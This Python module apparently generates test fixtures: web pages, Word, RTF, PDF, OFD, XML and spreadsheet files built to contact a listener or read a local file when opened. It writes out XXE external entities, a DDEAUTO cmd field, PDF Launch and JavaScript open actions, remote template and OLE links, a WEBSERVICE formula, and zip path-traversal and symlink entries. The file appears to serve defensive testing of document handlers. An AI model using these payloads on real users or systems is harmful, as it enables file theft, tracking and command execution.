"""Files that would have whoever opens them ask a server, or look at another file: each says where it is told to look."""

from io import BytesIO
from zipfile import ZipFile, ZipInfo

import drawn
import packed
import paged

LINE = "全年共收到申请4321件。"
LINK = 0o120777 << 16


def lures(url: str, path: str) -> dict[str, bytes]:
    """Files by what they try; `url` is the address of a listener, `path` that of a file that is nobody's business."""
    return {
        **{f"page, {name}": page(inner) for name, inner in inside(url, path).items()},
        **{f"web archive, {name}": archive(inner, url) for name, inner in inside(url, path).items()},
        **words(url, path),
        **rich(url, path),
        **papers(url, path),
        "OFD, picture elsewhere": paged.ofd(
            paged.page(paged.text(10, 10, LINE)),
            **{"Doc_0/DocumentRes.xml": f'<ofd:Res xmlns:ofd="http://www.ofdspec.org/2016" BaseLoc="{path}"><ofd:MultiMedias><ofd:MultiMedia ID="9" Type="Image"><ofd:MediaFile>{url}/a.svg</ofd:MediaFile></ofd:MultiMedia></ofd:MultiMedias></ofd:Res>'},
        ),
        "XML of Word, entity": entity(url, path, f'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r><w:t>{LINE}&x;&y;</w:t></w:r></w:p></w:body></w:wordDocument>'),
        "page of XML, entity": entity(url, path, f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{LINE}&x;&y;</p></body></html>'),
        "workbook, entity and links": workbook(url, path),
    }  # fmt: skip


def inside(url: str, path: str) -> dict[str, str]:
    """Bits of a web page."""
    return {
        "pictures": f'<img src="{url}/a.png"><img src="file://{path}"><picture><source srcset="{url}/b.png"></picture>',
        "styles": f'<link rel="stylesheet" href="{url}/a.css"><style>@import "{url}/b.css"; p {{ background: url({url}/c.png) }}</style>',
        "frames": f'<iframe src="{url}/a"></iframe><iframe src="file://{path}"></iframe><object data="{url}/b"></object><embed src="file://{path}">',
        "scripts": f'<script src="{url}/a.js"></script><script>fetch("{url}/b")</script><body onload="fetch(\'{url}/c\')">',
        "going elsewhere": f'<meta http-equiv="refresh" content="0; url={url}/a"><base href="{url}/"><a ping="{url}/b" href="file://{path}">x</a>',
        "drawings": f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{url}/a.png"/><use xlink:href="file://{path}#x"/></svg>',
    }


def page(inner: str) -> bytes:
    """A web page."""
    return f"<html><head><meta charset=utf-8>{inner}</head><body><p>{LINE}</p>{inner}</body></html>".encode()


def archive(inner: str, url: str) -> bytes:
    """A web page in a mail, whose parts say that they are elsewhere."""
    head = f"MIME-Version: 1.0\r\nContent-Location: {url}/\r\nContent-Type: multipart/related; boundary=B\r\n\r\n"
    part = f"--B\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: {url}/a.html\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    body = f'--B\r\nContent-Type: message/external-body; access-type=URL; URL="{url}/b"\r\n\r\n\r\n--B--\r\n'
    return (head + part).encode() + page(inner) + b"\r\n" + body.encode()


def words(url: str, path: str) -> dict[str, bytes]:
    """Word files: what they are related to lies elsewhere, their fields fetch, their XML has entities."""
    fetch = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{field}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for field in (
            f'INCLUDEPICTURE "{url}/a.png" \\d',
            f'INCLUDETEXT "{path}"',
            f'DDEAUTO cmd "{url}"',
            f'LINK Word.Document.8 "{path}"',
        )
    )
    plain = packed.docx(packed.par(LINE) + fetch)
    kinds = ("image", "attachedTemplate", "hyperlink", "subDocument", "frame", "oleObject", "aFChunk")
    targets = "".join(
        f'<Relationship Id="x{kind}{at}" Type="{packed.RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for kind in kinds
        for at, target in enumerate((f"{url}/{kind}", f"file://{path}", path))
    )
    document = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}"><!ENTITY y SYSTEM "{url}/y">]><w:document {packed.NAMES}><w:body><w:p><w:r><w:t>{LINE}&x;&y;</w:t></w:r></w:p></w:body></w:document>'
    return {
        "Word, fields": plain,
        "Word, relations": changed(plain, "word/_rels/document.xml.rels", lambda text: text.replace("</Relationships>", targets + "</Relationships>")),
        "Word, entity": changed(plain, "word/document.xml", lambda _: document),
        "Word, parts that are links": linked(plain, path),
    }  # fmt: skip


def rich(url: str, path: str) -> dict[str, bytes]:
    """Rich text."""
    text = "".join(f"\\u{ord(char)}?" for char in LINE)
    field = "{{\\field{{\\*\\fldinst {}}}{{\\fldrslt x}}}}".format
    return {
        "rich text, template": f"{{\\rtf1\\ansi{{\\*\\template {url}/a.dot}}{text}}}".encode(),
        "rich text, fields": f'{{\\rtf1\\ansi {field(f"INCLUDEPICTURE {url}/a.png")}{field(f"INCLUDETEXT {path}")}{text}}}'.encode(),
        "rich text, object": f"{{\\rtf1\\ansi{{\\object\\objautlink\\objupdate{{\\*\\objdata 0105}}{{\\result {url}}}}}{{\\*\\nextfile {path}}}{text}}}".encode(),
    }  # fmt: skip


def papers(url: str, path: str) -> dict[str, bytes]:
    """PDFs that act when they are opened, and that have their parts elsewhere."""
    actions = {
        "address": f"/OpenAction<</S/URI/URI({url}/a)>>",
        "other file": f"/OpenAction<</S/GoToR/F({path})/D[0/Fit]>>",
        "program": f"/OpenAction<</S/Launch/F({path})>>",
        "script": f"/OpenAction<</S/JavaScript/JS(app.launchURL\\('{url}/a'\\))>>",
        "form": f"/OpenAction<</S/SubmitForm/F<</FS/URL/F({url}/a)>>>>",
        "data": f"/OpenAction<</S/ImportData/F({path})>>",
    }
    made = drawn.pdf([drawn.text(72, 100, LINE)])
    found = {
        f"PDF, {name}": made.replace(b"/Type/Catalog", b"/Type/Catalog" + action.encode()).replace(
            b"/Type /Catalog", b"/Type /Catalog" + action.encode()
        )
        for name, action in actions.items()
    }
    outside = f"<</Length 0/F<</Type/Filespec/F({path})>>/FFilter/FlateDecode>>stream\n\nendstream".encode()
    found["PDF, page in another file"] = drawn.file(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>",
            outside,
        ]
    )
    found["PDF, font and picture elsewhere"] = drawn.file(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</A<</Subtype/Form/BBox[0 0 9 9]/Ref<</F({path})/Page 0>>>>/B<</Subtype/Image/Alternates[]/OPI<</2.0<</F({url}/a)>>>>>>>>>>>>".encode(),
         b"<</Length 10>>stream\n/A Do /B Do\nendstream"]
    )  # fmt: skip
    return found


def entity(url: str, path: str, root: str) -> bytes:
    """XML with entities, a style and a schema elsewhere."""
    return f'<?xml version="1.0" encoding="utf-8"?><?xml-stylesheet type="text/xsl" href="{url}/a.xsl"?><!DOCTYPE d SYSTEM "{url}/d.dtd" [<!ENTITY x SYSTEM "file://{path}"><!ENTITY y SYSTEM "{url}/y"><!ENTITY % p SYSTEM "{url}/p">%p;]>{root}'.encode()


def workbook(url: str, path: str) -> bytes:
    """A workbook with an entity, a link to another and an address that it calls."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    head = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}"><!ENTITY y SYSTEM "{url}/y">]>'
    cells = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{LINE}&x;&y;</t></is></c><c r="B1"><f>WEBSERVICE("{url}/f")</f></c></row>'
    files = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{packed.RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {space} xmlns:r="{packed.RELATIONS}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{packed.RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{packed.RELATIONS}/externalLink" Target="file://{path}" TargetMode="External"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"{head}<worksheet {space}><sheetData>{cells}</sheetData></worksheet>",
    }  # fmt: skip
    return packed._zip(files)


def changed(package: bytes, name: str, change) -> bytes:
    """A package with one part changed."""
    made = BytesIO()
    with ZipFile(BytesIO(package)) as source, ZipFile(made, "w") as target:
        for part in source.namelist():
            text = source.read(part)
            target.writestr(part, change(text.decode()) if part == name else text)
    return made.getvalue()


def linked(package: bytes, path: str) -> bytes:
    """A package with a part that is a symbolic link, and parts whose names lead out of any folder."""
    made = BytesIO(package)
    with ZipFile(made, "a") as target:
        link = ZipInfo("word/media/a.png")
        link.create_system, link.external_attr = 3, LINK
        target.writestr(link, path)
        target.writestr("../../../escaped.xml", "<a/>")
        target.writestr("/tmp/escaped.xml", "<a/>")
    return made.getvalue()


def files_in_an_archive(path: str) -> bytes:
    """A zip of files whose names lead elsewhere, and of links."""
    made = BytesIO()
    with ZipFile(made, "w") as target:
        for name in (
            "../escaped.html",
            "../../../../escaped.html",
            "/tmp/escaped.html",
            "C:\\escaped.html",
            "a/../../escaped.html",
        ):
            target.writestr(name, page(""))
        for name in ("link.html", "link.docx"):
            link = ZipInfo(name)
            link.create_system, link.external_attr = 3, LINK
            target.writestr(link, path)
    return made.getvalue()
